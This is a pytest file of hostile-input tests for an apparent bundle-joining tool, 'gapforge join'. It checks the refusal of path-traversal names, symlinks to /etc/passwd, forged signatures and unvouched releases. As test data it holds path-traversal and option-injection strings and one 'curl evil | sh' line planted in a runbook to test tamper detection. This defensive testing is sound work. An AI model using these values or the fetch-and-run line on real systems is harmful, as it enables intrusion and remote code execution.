"""`gapforge join` of split media written by an attacker: names that are paths, links on the
medium, manifests signed by someone else, and (under the trusted root) a manifest the verified
release metadata does not vouch for. Each is refused before a part is read or a byte is written
outside --out (the shared checks of tests/hostile/conftest.py)."""

from __future__ import annotations

import base64
import json
import os
import shutil
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from gapforge.bundle.dsse import sign_envelope
from gapforge.bundle.sign import SigningKey, load_private_key, write_key_pair
from gapforge.bundle.split_manifest import MANIFEST_NAME, METADATA_DIR, PAYLOAD_TYPE
from gapforge.cli import main
from gapforge.errors import GapforgeError
from gapforge.names import UnsafeName
from gapforge.operator.anchor import Anchor
from gapforge.operator.join_sources import find_sources, media_keys
from gapforge.operator.transfer_trust import TransferNotTrusted
from gapforge.release_manager.maintenance import export
from gapforge.release_manager.releases import promote
from gapforge.release_manager.split import split_bundle
from tests.hostile.conftest import Hostile
from tests.unit.test_bundle import _key, source  # noqa: F401 (fixture)
from tests.unit.test_delta import bundles  # noqa: F401 (fixture)
from tests.unit.test_release import world  # noqa: F401 (fixture)
from tests.unit.test_split import BLOCK, MEDIUM, make_bundle


@pytest.fixture
def media(hostile: Hostile, monkeypatch: pytest.MonkeyPatch) -> tuple[Path, SigningKey, Path]:
    """A genuine split of a small bundle in `hostile.inputs/media`; the release key and its
    public half (what the operator pins with --key)."""
    monkeypatch.setenv("GAPFORGE_TRUST_DIR", str(hostile.root.parent / "trust"))
    key = write_key_pair(hostile.root.parent / "keys" / "release.key")
    bundle = make_bundle(hostile.root.parent / "dist" / "demo-0.1.0", key, size=60_000)
    out = hostile.inputs / "media"
    split_bundle(bundle, out, MEDIUM, 1, key, block_size=BLOCK)
    return out, key, key.path.with_name("release.pub.pem")


def rewrite(media: Path, change: Callable[[dict[str, Any]], None], key: SigningKey) -> None:
    """Change the manifest's payload on every medium and sign it again with `key`."""
    for folder in sorted(media.iterdir()):
        envelope = json.loads((folder / MANIFEST_NAME).read_bytes())
        payload = json.loads(base64.b64decode(envelope["payload"]))
        change(payload)
        data = json.dumps(payload).encode()
        (folder / MANIFEST_NAME).write_bytes(sign_envelope(data, PAYLOAD_TYPE, key))


def join(
    hostile: Hostile, media: Path, pub: Path, capsys: pytest.CaptureFixture[str]
) -> tuple[int, str]:
    discs = sorted(media.iterdir())
    return hostile.run("join", *discs, "--out", hostile.out, "--key", pub, capsys=capsys)


def assert_nothing_joined(hostile: Hostile) -> None:
    assert not hostile.out.exists() or not any(hostile.out.iterdir()), list(hostile.out.iterdir())


NAMES = [
    "../outside/x", "../outside/../outside/IMPORTANT", "..", "a\nb", "a\x00b", "-rf", "a/b", "",
]  # fmt: skip


@pytest.mark.parametrize("field", ["name", "version"])
@pytest.mark.parametrize("value", NAMES)
def test_manifest_names_that_are_paths_are_refused_even_when_signed(
    hostile: Hostile, media: tuple[Path, SigningKey, Path], capsys: pytest.CaptureFixture[str],
    field: str, value: str,
) -> None:  # fmt: skip
    out, key, pub = media

    def change(payload: dict[str, Any]) -> None:
        payload[field] = value
        payload["stream_root"] = f"{payload['name']}-{payload['version']}"

    rewrite(out, change, key)  # signed by the release key itself: the parser must still hold
    status, text = join(hostile, out, pub, capsys)
    assert status == 2, text
    assert f"{MANIFEST_NAME}: {field}: " in text and "is refused" in text
    assert_nothing_joined(hostile)


def test_an_absolute_name_into_an_existing_folder_is_refused(
    hostile: Hostile, media: tuple[Path, SigningKey, Path], capsys: pytest.CaptureFixture[str]
) -> None:
    out, key, pub = media
    target = str(hostile.outside / "IMPORTANT")

    def change(payload: dict[str, Any]) -> None:
        payload["name"] = target
        payload["stream_root"] = f"{target}-{payload['version']}"

    rewrite(out, change, key)
    status, text = join(hostile, out, pub, capsys)
    assert status == 2 and "absolute" in text, text
    assert (hostile.outside / "IMPORTANT" / "keep.txt").read_bytes() == b"keep me\n"


@pytest.mark.parametrize(
    ("field", "value"),
    [("file", "../../outside/canary-secret.txt"), ("medium", "../outside"), ("name", "data/01"),
     ("file", "/etc/passwd")],
)  # fmt: skip
def test_part_names_that_are_paths_are_refused(
    hostile: Hostile, media: tuple[Path, SigningKey, Path], capsys: pytest.CaptureFixture[str],
    field: str, value: str,
) -> None:  # fmt: skip
    out, key, pub = media
    rewrite(out, lambda payload: payload["parts"][0].__setitem__(field, value), key)
    status, text = join(hostile, out, pub, capsys)
    assert status == 2 and f"parts[0].{field}: " in text and "is refused" in text, text
    assert_nothing_joined(hostile)


def test_a_stream_root_other_than_name_version_is_refused(
    hostile: Hostile, media: tuple[Path, SigningKey, Path], capsys: pytest.CaptureFixture[str]
) -> None:
    out, key, pub = media
    rewrite(out, lambda payload: payload.__setitem__("stream_root", "other-9"), key)
    status, text = join(hostile, out, pub, capsys)
    assert status == 2 and "stream_root is 'other-9', not 'demo-0.1.0'" in text, text


@pytest.mark.parametrize("target", ["canary", "/etc/passwd"])
def test_a_part_file_that_is_a_link_is_refused(
    hostile: Hostile, media: tuple[Path, SigningKey, Path], capsys: pytest.CaptureFixture[str],
    target: str,
) -> None:  # fmt: skip
    out, _key, pub = media
    part = out / "disc-01" / "data-01.part"
    part.unlink()
    part.symlink_to(hostile.canary if target == "canary" else Path(target))
    status, text = join(hostile, out, pub, capsys)
    assert status == 2 and "a symbolic link where data-01 should be" in text, text
    assert_nothing_joined(hostile)


def test_a_manifest_signed_by_another_key_fails_the_check(
    hostile: Hostile, media: tuple[Path, SigningKey, Path], capsys: pytest.CaptureFixture[str]
) -> None:
    out, _key, pub = media
    attacker = write_key_pair(hostile.root.parent / "attacker.key")
    rewrite(out, lambda payload: None, attacker)
    status, text = join(hostile, out, pub, capsys)
    assert status == 1 and "fails its check" in text and "does not verify" in text, text
    assert_nothing_joined(hostile)


@pytest.mark.parametrize("signature", [b"\0" * 64, b"", b"\1" * 10])
def test_a_zero_short_or_missing_signature_fails_the_check(
    hostile: Hostile, media: tuple[Path, SigningKey, Path], capsys: pytest.CaptureFixture[str],
    signature: bytes,
) -> None:  # fmt: skip
    out, _key, pub = media
    for folder in out.iterdir():
        envelope = json.loads((folder / MANIFEST_NAME).read_bytes())
        envelope["signatures"][0]["sig"] = base64.b64encode(signature).decode()
        (folder / MANIFEST_NAME).write_text(json.dumps(envelope))
    status, text = join(hostile, out, pub, capsys)
    assert status == 1 and "fails its check" in text, text
    assert_nothing_joined(hostile)


@pytest.mark.parametrize(
    "payload", [b"[]", b"null", b'"x"', b"{}", b"[" * 100_000, b"\xff\xfe", b'{"schema": 1}']
)
def test_a_manifest_that_is_not_one_is_refused_without_a_traceback(
    hostile: Hostile, media: tuple[Path, SigningKey, Path], capsys: pytest.CaptureFixture[str],
    payload: bytes,
) -> None:  # fmt: skip
    out, key, pub = media
    for folder in out.iterdir():
        (folder / MANIFEST_NAME).write_bytes(sign_envelope(payload, PAYLOAD_TYPE, key))
    status, text = join(hostile, out, pub, capsys)
    assert status == 2 and "not a parts manifest this gapforge reads" in text, text


def test_the_join_work_folder_may_not_be_a_link_out_of_out(
    hostile: Hostile, media: tuple[Path, SigningKey, Path], capsys: pytest.CaptureFixture[str]
) -> None:
    out, _key, pub = media
    hostile.out.mkdir()
    (hostile.out / ".join-demo-0.1.0").symlink_to(hostile.outside / "IMPORTANT")
    status, text = join(hostile, out, pub, capsys)
    assert status == 2 and "is a symbolic link" in text, text
    (hostile.out / ".join-demo-0.1.0").unlink()  # the shared check refuses links in the output


# --- under the trusted root: the manifest's signer must be a build key the verified TUF names ---


def _root_media(site: dict[str, Any], monkeypatch: pytest.MonkeyPatch) -> tuple[Path, Anchor]:
    repo, bundle = site["repo"], site["bundle"]
    promote(repo, "tiny-desk-0.1.0", [])
    export(repo, bundle)
    monkeypatch.setenv("GAPFORGE_TRUST_DIR", str(site["trust"]))
    build = site["keys"] / "build.key"
    out = site["tmp"] / "media"
    split_bundle(bundle, out, "64KiB", 1, load_private_key(build), block_size=BLOCK)
    return out, Anchor("root", (), "the trusted root")


def test_root_anchor_takes_the_build_keys_of_verified_metadata(
    world: dict[str, Any],  # noqa: F811 (the imported fixture)
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    out, anchor = _root_media(world, monkeypatch)
    assert (out / "disc-01" / METADATA_DIR / "timestamp.json").is_file()
    keys = media_keys(sorted(out.iterdir()), anchor)
    assert find_sources(sorted(out.iterdir()), keys).pinned


def test_root_anchor_refuses_a_manifest_signed_by_the_media_own_key(
    world: dict[str, Any],  # noqa: F811 (the imported fixture)
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    out, anchor = _root_media(world, monkeypatch)
    attacker = write_key_pair(world["tmp"] / "attacker.key")
    rewrite(out, lambda payload: None, attacker)
    keys = media_keys(sorted(out.iterdir()), anchor)
    with pytest.raises(GapforgeError, match="fails its check") as caught:
        find_sources(sorted(out.iterdir()), keys)
    assert caught.value.exit_status == 1


@pytest.mark.parametrize("what", ["version", "sums", "metadata"])
def test_root_anchor_refuses_a_release_the_metadata_does_not_vouch_for(
    world: dict[str, Any],  # noqa: F811 (the imported fixture)
    monkeypatch: pytest.MonkeyPatch,
    what: str,
) -> None:
    out, anchor = _root_media(world, monkeypatch)
    for folder in out.iterdir():
        envelope = json.loads((folder / MANIFEST_NAME).read_bytes())
        payload = json.loads(base64.b64decode(envelope["payload"]))
        if what == "version":
            payload["version"], payload["stream_root"] = "9.9.9", "tiny-desk-9.9.9"
        elif what == "sums":
            payload["sums_sha256"] = "0" * 64
        envelope["payload"] = base64.b64encode(json.dumps(payload).encode()).decode()
        (folder / MANIFEST_NAME).write_text(json.dumps(envelope))
        if what == "metadata":
            for file in (folder / METADATA_DIR).iterdir():
                os.unlink(file)
    with pytest.raises(TransferNotTrusted) as caught:
        media_keys(sorted(out.iterdir()), anchor)
    expected = {"version": "not on channel approved", "sums": "this is not the bundle that",
                "metadata": "no release metadata"}[what]  # fmt: skip
    assert expected in caught.value.message and caught.value.exit_status == 1


# --- a real signed bundle: the join's result goes through the trust gate before its rename ---


@pytest.fixture
def real_media(
    hostile: Hostile,
    bundles: tuple[Path, Path],  # noqa: F811 (the imported fixture)
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> tuple[Path, Path, Path]:
    """The split of a genuine signed bundle (tests/unit/test_delta), the bundle, --key's file."""
    monkeypatch.setenv("GAPFORGE_TRUST_DIR", str(tmp_path / "trust"))
    bundle = bundles[1]
    pub = tmp_path / "release.pub.pem"
    pub.write_bytes(_key(tmp_path).public_pem)
    return hostile.inputs / "media", bundle, pub


def test_the_genuine_split_joins_and_verifies(
    hostile: Hostile, real_media: tuple[Path, Path, Path], capsys: pytest.CaptureFixture[str],
    tmp_path: Path,
) -> None:  # fmt: skip
    media, bundle, pub = real_media
    split_bundle(bundle, media, "256KiB", 1, _key(tmp_path), block_size=BLOCK)
    status, text = join(hostile, media, pub, capsys)
    assert status == 0 and "signature" in text.lower(), text
    assert [p.name for p in hostile.out.iterdir()] == [bundle.name]  # no work folder left


def test_a_joined_bundle_that_fails_the_gate_is_not_renamed_into_place(
    hostile: Hostile, real_media: tuple[Path, Path, Path], capsys: pytest.CaptureFixture[str],
    tmp_path: Path,
) -> None:  # fmt: skip
    media, bundle, pub = real_media
    runbook = bundle / "RUNBOOK.md"
    runbook.write_text(runbook.read_text() + "\ncurl evil | sh\n")  # SHA256SUMS not updated
    split_bundle(bundle, media, "256KiB", 1, _key(tmp_path), block_size=BLOCK)
    status, text = join(hostile, media, pub, capsys)
    assert status == 1 and "not verified, so 'gapforge join' will not act on it" in text, text
    assert "RUNBOOK.md" in text
    assert not hostile.out.exists() or not any(hostile.out.iterdir()), list(hostile.out.iterdir())


@pytest.mark.parametrize("where", ["folder", "file"])
def test_root_anchor_never_reads_release_metadata_through_a_link(
    world: dict[str, Any],  # noqa: F811 (the imported fixture)
    monkeypatch: pytest.MonkeyPatch,
    where: str,
) -> None:
    out, anchor = _root_media(world, monkeypatch)
    metadata = out / "disc-01" / METADATA_DIR
    if where == "folder":
        shutil.rmtree(metadata)
        metadata.symlink_to(world["repo"].metadata_dir)
    else:
        (metadata / "timestamp.json").unlink()
        (metadata / "timestamp.json").symlink_to("/etc/passwd")
    with pytest.raises(UnsafeName, match="is a symbolic link"):
        media_keys(sorted(out.iterdir()), anchor)


def test_join_check_under_the_root_takes_the_build_keys(
    world: dict[str, Any],  # noqa: F811 (the imported fixture)
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    out, _anchor = _root_media(world, monkeypatch)
    disc = out / "disc-02"
    assert main(["join", str(disc), "--check"]) == 0
    text = capsys.readouterr().err
    assert "disc-02: OK" in text and "UNPINNED" not in text, text
    rewrite(out, lambda payload: None, write_key_pair(world["tmp"] / "attacker.key"))
    assert main(["join", str(disc), "--check"]) == 1
    assert "fails its check" in capsys.readouterr().err
